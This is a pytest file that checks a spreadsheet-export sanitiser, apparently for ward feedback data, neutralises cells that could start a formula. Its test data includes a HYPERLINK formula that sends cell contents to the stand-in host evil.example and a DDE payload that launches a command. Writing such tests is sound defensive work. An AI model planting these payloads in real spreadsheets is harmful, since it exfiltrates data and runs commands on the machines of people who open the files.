"""server/spreadsheet.py: no exported text cell can start a spreadsheet formula."""

from __future__ import annotations

import pytest

from server.ward.spreadsheet import inert_cell, inert_row

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    "value, exported",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+44 is the code", "'+44 is the code"),
        ("-2+3 cmd", "'-2+3 cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1+1", "'\0=1+1"),
        ("'=1+1", "'=1+1"),  # already text to a spreadsheet: nothing to add
        # plain words, including ones with a formula character later on
        ("Kind staff", "Kind staff"),
        ("Food was cold - again", "Food was cold - again"),
        ("2+2 nurses on nights", "2+2 nurses on nights"),
        ("email [email removed]", "email [email removed]"),
        ('{"location": "Bay 3"}', '{"location": "Bay 3"}'),
        ("", ""),
        ("Ça va, merci 👍", "Ça va, merci 👍"),
        # what the export makes itself stays what it is
        (None, None),
        (False, False),
        (-3, -3),
        (-2.5, -2.5),
    ],
)
def test_a_cell_that_could_run_is_made_text(value, exported):
    assert inert_cell(value) == exported


def test_every_cell_of_a_row_is_made_inert():
    row = {"id": "1b4e28ba-2fa1-41d2-883f-0016d3cca427", "comment": "=cmd|' /C calc'!A0", "misuse": False, "lang": None}
    assert inert_row(row) == dict(row, comment="'=cmd|' /C calc'!A0")
